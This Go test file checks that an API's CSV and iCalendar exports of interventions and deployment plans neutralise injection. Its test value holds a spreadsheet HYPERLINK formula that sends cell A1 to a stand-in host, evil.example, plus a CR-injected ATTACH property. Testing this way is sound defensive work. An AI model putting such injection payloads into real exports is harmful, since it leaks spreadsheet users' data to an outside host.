package web_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/getkin/kin-openapi/openapi3filter"
)

// evilName is text an editor of any organisation can store: a spreadsheet formula, and a bare
// CR followed by an iCalendar property.
const evilName = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")\rATTACH:https://evil.example/x"

// TestExportsNeutraliseInjection (issue 12, L1 and L2): a stored name reaches the CSV exports
// as text a spreadsheet will not run, and the iCalendar export without a line of its own.
func TestExportsNeutraliseInjection(t *testing.T) {
	a := newAPI(t)

	// Feature items as CSV: an intervention's title.
	var ids []int64
	cleanUp(t, &ids)
	iv, _, _ := createIntervention(t, a, newIntervention(`{"type":"Point","coordinates":[16.5,59.6]}`, map[string]any{"title": evilName}),
		http.Header{"Content-Type": {"application/geo+json"}}, &ids)
	_, body := a.get("/collections/interventions/items?f=csv&limit=10000", 200)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows[1:] {
		if row[0] != fmt.Sprint(iv.ID) {
			continue
		}
		found = true
		for k, cell := range row {
			if cell == evilName {
				t.Errorf("items CSV column %s holds the formula as is: %q", rows[0][k], cell)
			}
			if cell == "'"+evilName {
				return
			}
		}
	}
	if !found {
		t.Fatalf("intervention %d not in the CSV", iv.ID)
	}
	t.Error("items CSV: the title is not in the export with a leading apostrophe")
}

// TestPlanExportsNeutraliseInjection: the same for a deployment plan's target name in its CSV
// and iCalendar exports.
func TestPlanExportsNeutraliseInjection(t *testing.T) {
	a := newAPI(t)
	registerICS.Do(func() { openapi3filter.RegisterBodyDecoder("text/calendar", openapi3filter.PlainBodyDecoder) })
	req, _ := json.Marshal(map[string]any{"weeks": 1, "actors": []any{map[string]any{"type": "police", "capacity": 5}},
		"targets": map[string]any{"items": []any{map[string]any{"id": "cell:1_2", "name": evilName, "point": []float64{16.54, 59.61},
			"risk": map[string]any{"violence": 10}}}}})
	_, body := a.do("POST", "/deployment/plans", string(req), 201)
	var p planAnswer
	if err := json.Unmarshal(body, &p); err != nil {
		t.Fatal(err)
	}
	_, body = a.get(fmt.Sprintf("/deployment/plans/%d?f=csv", p.ID), 200)
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 2 {
		t.Fatalf("plan CSV has no rows: %s", body)
	}
	for _, row := range rows[1:] {
		if row[4] != "'"+evilName {
			t.Errorf("plan CSV target_name %q, want it behind an apostrophe", row[4])
		}
	}
	_, ics := a.get(fmt.Sprintf("/deployment/plans/%d?f=ics", p.ID), 200)
	unfolded := strings.ReplaceAll(string(ics), "\r\n ", "")
	for _, line := range strings.Split(strings.TrimSuffix(unfolded, "\r\n"), "\r\n") {
		if strings.ContainsAny(line, "\r\n") {
			t.Fatalf("iCalendar line with a bare CR or LF: %q", line)
		}
		if strings.HasPrefix(line, "ATTACH") {
			t.Fatalf("a target name made a property of its own: %q", line)
		}
	}
	if !strings.Contains(unfolded, `\nATTACH:https://evil.example/x`) {
		t.Error("the name's line break is not escaped as \\n in the iCalendar text")
	}
}
